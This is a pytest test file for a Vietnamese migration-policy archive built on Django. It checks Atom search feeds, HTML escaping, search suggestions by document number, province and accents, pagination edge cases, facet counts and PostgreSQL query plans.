    """Ordered by when each entered the archive, not by its date: a 2020 plan entered today is
    news to whoever follows the search."""
    monkeypatch.setattr(feeds, "FEW", few)
    now = timezone.now()
    for days, key in enumerate(["di_cu", "kh1614", "draft", "di_cu_x"]):
        Document.objects.filter(pk=corpus[key].pk).update(
            created_at=now - datetime.timedelta(days=days)
        )
    root = feed(client, q="người di cư")
    assert entry_titles(root) == [
        "Người di cư trở về quê",
        "1614/KH-UBND: Kế hoạch triển khai Thoả thuận GCM trên địa bàn tỉnh Hậu Giang",
        "Người di cũ trở về quê",  # matched as the search matches it, unaccented
    ]  # the draft, entered between them, is the editors' alone
    assert root.find(f"{ATOM}title").text == "«người di cư» – Lưu trữ chính sách di cư"
    first = next(root.iter(f"{ATOM}entry"))
    assert first.find(f"{ATOM}link").get("href") == "http://testserver/bai-viet/di-cu/"
    assert first.find(f"{ATOM}summary").text == "01/05/2024. Câu chuyện người di cư."
    assert [c.get("term") for c in first.iter(f"{ATOM}category")] == ["Bài viết", "Nghệ An"]
    links = {link.get("rel"): link.get("href") for link in root.findall(f"{ATOM}link")}
    assert links["self"] == "http://testserver/tim-kiem/atom/?q=ng%C6%B0%E1%BB%9Di+di+c%C6%B0"
    assert links["alternate"] == "http://testserver/tim-kiem/?q=ng%C6%B0%E1%BB%9Di+di+c%C6%B0"
    monkeypatch.setattr(feeds, "ENTRIES", 2)  # the last two entered, of the three
    cache.clear()
    assert entry_titles(feed(client, q="người di cư")) == entry_titles(root)[:2]


def test_a_search_feed_is_cached_until_the_archive_changes(
    client, corpus, django_assert_num_queries
):
    """Feed readers ask every hour or so: a repeat costs what a repeated page does."""
    params = {"q": "di cư", "province": "nghe-an"}
    before = entry_titles(feed(client, **params))
    with django_assert_num_queries(RENDERED_QUERIES):
        assert entry_titles(feed(client, **params)) == before
    ArticleFactory(
        title="Tin mới về di cư", body="di cư", provinces=[corpus["di_cu"].provinces.first()]
    )
    assert entry_titles(feed(client, **params)) == ["Tin mới về di cư", *before]


def test_a_search_feed_names_its_filters_and_refuses_what_the_page_refuses(client, corpus):
    root = feed(client, province="can-tho", kind="plan")
    assert root.find(f"{ATOM}title").text == (
        "Loại tài liệu: Văn bản · Tỉnh, thành phố: Cần Thơ – Lưu trữ chính sách di cư"
    )
    assert entry_titles(root) == [
        "402/KH-UBND: Kế hoạch quản lý chợ nông thôn",
        "1614/KH-UBND: Kế hoạch triển khai Thoả thuận GCM trên địa bàn tỉnh Hậu Giang",
    ]  # Hậu Giang's plan: Hậu Giang was merged into Cần Thơ
    assert feed(client).find(f"{ATOM}title").text == "Tài liệu mới – Lưu trữ chính sách di cư"
    repeated = client.get(reverse("archive:search-feed"), {"kind": ["plan"] * 300})
    assert ElementTree.fromstring(repeated.content).find(f"{ATOM}title").text == (
        "Loại tài liệu: Văn bản – Lưu trữ chính sách di cư"  # named once, not 300 times
    )
    assert feed(client, date_from="2021", date_to="06/2024").find(f"{ATOM}title").text == (
        "Từ ngày 01/01/2021 · Đến ngày 30/06/2024 – Lưu trữ chính sách di cư"
    )
    refused = client.get(reverse("archive:search-feed"), {"year": "abc"})
    assert refused.status_code == 400
    assert refused.content.decode().startswith("Năm: ")
    client.post(reverse("set_language"), {"language": "en", "next": "/"})
    english = feed(client, kind="plan")
    assert english.find(f"{ATOM}title").text == (
        "Kind: Official document – Migration policy archive"
    )


def test_a_feeds_summary_is_escaped_once_for_the_reader(client, corpus):
    """A reader takes the summary as HTML: a text's "<" must reach it as a character."""
    Document.objects.filter(pk=corpus["phrase"].pk).update(summary="Luật <b>mới</b> & cũ")
    summaries = [e.find(f"{ATOM}summary").text for e in feed(client, q="tuần").iter(f"{ATOM}entry")]
    assert summaries == ["01/01/2023. Luật &lt;b&gt;mới&lt;/b&gt; &amp; cũ"]


def test_a_feed_stays_readable_whatever_a_title_was_typed_with(client, corpus):
    """A title holding U+FFFE was stored, and every feed listing it was XML no reader parses."""
    plan = corpus["phrase"]
    plan.title = "Kế hoạch \ufffe tuần \uffff mới \U0010ffff \ufdd0"
    plan.save()
    plan.refresh_from_db()
    assert plan.title.split() == ["Kế", "hoạch", "tuần", "mới"]
    entries = feed(client, q="tuần").iter(f"{ATOM}entry")  # parsed: it raised before
    assert [e.find(f"{ATOM}title").text.split()[-2:] for e in entries] == [["tuần", "mới"]]


def test_the_search_page_offers_its_feed(client, corpus):
    page = client.get(reverse("archive:search"), {"q": "di cư"}).content.decode()
    href = reverse("archive:search-feed") + "?q=di+c%C6%B0"
    assert f'<link rel="alternate" type="application/atom+xml" href="{href}"' in page
    # The link people see opens a page explaining it: a browser showed the feed as raw XML.
    follow = reverse("archive:search-follow") + "?q=di+c%C6%B0"
    assert f'<a class="export feed" href="{follow}">Theo dõi tài liệu mới</a>' in page
    content = client.get(follow).content.decode()
    assert f'value="http://testserver{href}"' in content  # its address, to copy
    assert 'Tìm kiếm: <span lang="vi">«di cư»</span>' in content
    assert "Outlook" in content and content.count('<li class="doc-item">') > 0
    refused = client.get(reverse("archive:search-follow"), {"year": "abc"})
    assert refused.status_code == 400 and refused["Content-Type"].startswith("text/html")
    assert "Năm: «abc»" in refused.content.decode()  # what was refused, in the site's page
    refused = client.get(reverse("archive:search"), {"q": "di cư", "year": "abc"})
    assert refused.status_code == 400  # its feed would answer 400 too: not offered
    assert "application/atom+xml" not in refused.content.decode()


def test_a_suggestion_says_its_kind_and_date(client, db):
    """An article and the conference it reports, of near the same title, looked the same."""
    ConferenceFactory(title="Hội nghị sơ kết 5 năm", date=D(2025, 12, 19))
    ArticleFactory(title="Việt Nam sơ kết 5 năm", date=D(2025, 12, 20))
    found = client.get(reverse("archive:api-suggest"), {"q": "sơ kết"}).json()["suggestions"]
    assert {(s["kind"], s["date"]) for s in found} == {
        ("Hội nghị", "19/12/2025"),
        ("Bài viết", "20/12/2025"),
    }
    page = client.get(reverse("archive:api-suggest"), {"q": "sơ kết"}, HTTP_ACCEPT="text/html")
    assert '<span class="number">Hội nghị</span> Hội nghị sơ kết 5 năm' in page.content.decode()


def test_suggestions_for_numbers_and_titles(client, corpus):
    numbers = client.get(reverse("archive:api-suggest"), {"q": "1614/kh"}).json()["suggestions"]
    assert numbers[0]["number"] == "1614/KH-UBND"
    titles = client.get(reverse("archive:api-suggest"), {"q": "nông thôn"}).json()["suggestions"]
    assert [s["title"] for s in titles] == ["Kế hoạch quản lý chợ nông thôn"]
    assert client.get(reverse("archive:api-suggest"), {"q": "x"}).json() == {"suggestions": []}
    partial = client.get(reverse("archive:api-suggest"), {"q": "1614/KH-UB"}).json()
    assert partial["suggestions"][0]["number"] == "1614/KH-UBND"
    for q in ("??", "«»", ".."):  # no word typed
        assert client.get(reverse("archive:api-suggest"), {"q": q}).status_code == 200
    # Mistyped, nothing starts so: the closest numbers and titles (pg_trgm's indexes), the
    # closest first, whatever their order in the table.
    PlanFactory(number="1618/KH-UBND", title="Khác", slug="kh-1618", date=D(2020, 1, 1))
    PlanFactory(number="1614/KH-UBNN", title="Khác nữa", slug="kh-1614n", date=D(2020, 1, 1))
    mistyped = client.get(reverse("archive:api-suggest"), {"q": "1614/KH-UBNX"}).json()
    assert [s["number"] for s in mistyped["suggestions"]][:2] == ["1614/KH-UBND", "1614/KH-UBNN"]
    # A title holding a number is suggested as it is typed (the parser's one token).
    ArticleFactory(slug="bao", title="Tỉnh sơ kết Kế hoạch 1614/KH-UBND năm 2021–2025")
    for q in ("Kế hoạch 1614/KH", "sơ kết kế hoạch 1614", "1614/KH-UBND năm 2021"):
        assert "Tỉnh sơ kết Kế hoạch 1614/KH-UBND năm 2021–2025" in suggested(client, q), q
        assert Document.objects.titled(q).filter(slug="bao").exists(), q  # not the closest's
    assert suggested(client, "nông thônn")[0] == titles[0]["title"]
    # While an ordinal is typed ("KH 1" on the way to "KH 1614"), a few of its numbers only.
    for n in range(4):
        PlanFactory(number="1/KH-UBND", slug=f"kh-1-{n}", title="Khác", date=D(2021 + n, 1, 1))
    typing = client.get(reverse("archive:api-suggest"), {"q": "KH 1"}).json()["suggestions"]
    assert [s["number"] for s in typing].count("01/KH-UBND") == views.NAMED_FIRST
    # A number named as the search reads it, its documents first, before newer titles.
    ArticleFactory(slug="tin-402", title="Tin về Quyết định 402 của Thủ tướng", date=D(2025, 1, 1))
    for q in ("Quyết định 402", "QĐ 402", "qđ402", "402 QĐ TTg"):
        first = client.get(reverse("archive:api-suggest"), {"q": q}).json()["suggestions"][0]
        assert first["number"] == "402/QĐ-TTg", q


def test_a_province_typed_is_suggested_with_its_documents(client, corpus):
    """ "Cần Thơ" suggested the newest titles like it (a forum in Tokyo first): a province's
    name typed suggests its page, then its documents."""

    def suggestions(q):
        return client.get(reverse("archive:api-suggest"), {"q": q}).json()["suggestions"]

    place = {"title": "Hậu Giang (trước 2025)", "label": "Tỉnh, thành phố"}
    for q in ("hau giang", "Hậu Giang"):
        first, *others = suggestions(q)
        assert first == place | {"url": "/tinh-thanh/hau-giang-truoc-2025/"}, q
        assert [s["title"] for s in others] == [corpus["kh1614"].title], q
    # No title holds the name: the documents tagged with its units, newest first, not the
    # titles closest to it.
    first, *others = suggestions("Cần Thơ")
    assert first["url"] == "/tinh-thanh/can-tho/" and first["title"] == "Cần Thơ"
    tagged = Document.objects.published().filter(facet_units__overlap=[first_unit("can-tho")])
    assert [s["url"] for s in others] == [
        d.get_absolute_url() for d in tagged.order_by(F("date").desc(nulls_last=True), "-pk")
    ]
    assert len(others) == 2
    page = client.get(reverse("archive:api-suggest"), {"q": "Cần Thơ"}, HTTP_ACCEPT="text/html")
    assert '<span class="number">Tỉnh, thành phố</span> Cần Thơ</a>' in page.content.decode()


def first_unit(slug):
    return Province.objects.get(slug=slug).pk


def suggested(client, q):
    response = client.get(reverse("archive:api-suggest"), {"q": q})
    return [s["title"] for s in response.json()["suggestions"]]


def test_suggestions_match_the_starts_of_words_with_the_accents_typed(client, corpus):
    """Folded and anywhere in a title, "Hòa" suggested every "Kế hoạch" and "Thỏa thuận"."""
    hoa_binh = ["Hội nghị tuyên truyền tại Hòa Bình"]
    for q in ("Hòa", "hoà", "Hòa B"):
        assert suggested(client, q) == hoa_binh, q
    assert suggested(client, "HÒA BÌNH") == ["Hoà Bình (trước 2025)", *hoa_binh]  # its page first
    assert "Kế hoạch quản lý chợ nông thôn" in suggested(client, "hoa")  # no accents: any
    ArticleFactory(slug="da-nang", title="Di cư lao động ở Đà Nẵng", date=D(2024, 6, 1))
    for q in ("đa", "Đà N", "da nang"):  # Telex types đ, a, then the tone
        assert suggested(client, q)[0] == "Di cư lao động ở Đà Nẵng", q
        # Found by the pattern itself, not the closest titles offered when it finds nothing.
        titles = Document.objects.filter(title__regex=search.title_pattern(q))
        assert titles.get().slug == "da-nang", q
    assert suggested(client, "tuyên tru") == hoa_binh  # letters typed plain: any accents
    assert suggested(client, "thoả thuận gcm") == [
        "Kế hoạch triển khai Thoả thuận GCM trên địa bàn tỉnh Hậu Giang"
    ]


def test_suggestions_open_in_a_browser_as_a_page_of_links(client, corpus):
    response = client.get(
        reverse("archive:api-suggest"), {"q": "1614"}, HTTP_ACCEPT="text/html,*/*;q=0.8"
    )
    assert response["Content-Type"].startswith("text/html")
    assert 'href="/van-ban/kh-1614/"' in response.content.decode()


def test_the_page_accepts_a_page_size(client, corpus):
    response = client.get(reverse("archive:search"), {"page_size": "3"})
    assert len(response.context["page"].object_list) == 3
    assert client.get(reverse("archive:search"), {"page_size": "9999"}).status_code == 200


def test_a_page_below_one_is_the_first(client, corpus):
    for number in ("0", "-1"):  # Django's get_page gives the last page for these
        response = client.get(reverse("archive:search"), {"page_size": "3", "page": number})
        assert response.context["page"].number == 1, number
    response = client.get(reverse("archive:objective", args=[10]), {"page": "-1"})
    assert response.context["page"].number == 1


def test_a_kind_chosen_twice_is_counted_once(client, corpus):
    once = client.get(reverse("archive:search"), {"kind": "plan"}).context["page"]
    twice = client.get(reverse("archive:search"), {"kind": ["plan", "plan"]}).context["page"]
    plans = Document.objects.published().filter(kind="plan").count()
    assert twice.paginator.count == once.paginator.count == plans


@pytest.mark.parametrize(
    "filters",
    [
        {"kind": ["plan"], "year": ["2020"]},
        {"kind": ["plan", "article"], "province": ["can-tho"], "year": ["2020", "2021"]},
        {"agency": ["thu-tuong"], "objective": ["10"], "doc_type": ["quyet-dinh"]},
        {"kind": ["article"], "province": ["phu-tho"], "agency": ["ubnd-hau-giang"]},
    ],
)
def test_counts_with_several_filters_equal_a_recount_one_facet_at_a_time(corpus, filters):
    """The facet statement keeps only rows failing at most one filter (filters.FACET_SQL): a
    row failing two counts nowhere. Checked against the benchmark's recount over join tables."""
    for q in ("", "kế hoạch"):
        total, expected = recount(q, filters)
        got = ours(q, filters, all_counts=True)
        assert (got["count"], got["facets"]) == (total, expected)


def ranking_plan(q):
    filterset = DocumentFilter({"q": q}, queryset=Document.objects.published())
    assert filterset.is_valid()
    sql, params = filterset.ordered_qs()[:100].query.sql_with_params()
    with connection.cursor() as cursor:
        cursor.execute(f"EXPLAIN {sql}", params)
        return "\n".join(row[0] for row in cursor.fetchall())


def test_searches_let_the_planner_rank_a_big_match_set_in_parallel(db):
    """Ranking reads every match's vectors, which the planner prices as nearly free: it started
    no workers for two words' 16,000 matches (bench/README.md) until search.tuned priced them
    at nothing. A small table stands in for a big one: every scan may be split, and rows
    cross to the leader for nothing, as the top 100 of thousands nearly do."""
    ArticleFactory.create_batch(200, body="Người di cư trở về quê hương. " * 40)
    with connection.cursor() as cursor:
        cursor.execute("ANALYZE archive_document")
        cursor.execute("SET LOCAL min_parallel_table_scan_size = 0")
        cursor.execute("SET LOCAL parallel_tuple_cost = 0")
    assert "Gather" not in ranking_plan("di cư")
    with search.tuned():
        assert "Gather" in ranking_plan("di cư")


@pytest.mark.parametrize("q", ["1614", "QĐ 402", "kế hoạch 1614"])
def test_a_number_typed_short_is_looked_up_in_the_number_index(db, q):
    """A bare ordinal or a type and ordinal match numbers by their start: the partial index on
    search_number answers that only when the statement names its condition (search._numbered).
    Without it each such search read every row: 1.3-1.6 s at 200,000 documents."""
    PlanFactory.create_batch(30, body="Kế hoạch triển khai.")
    numbered = Document.objects.filter(search.number_condition(parse_query(q)))
    sql, params = numbered.query.sql_with_params()
    with search.tuned(), connection.cursor() as cursor:
        cursor.execute("ANALYZE archive_document")
        cursor.execute(f"EXPLAIN {sql}", params)
        plan = "\n".join(row[0] for row in cursor.fetchall())
    assert "document_search_number" in plan and "Seq Scan" not in plan, plan
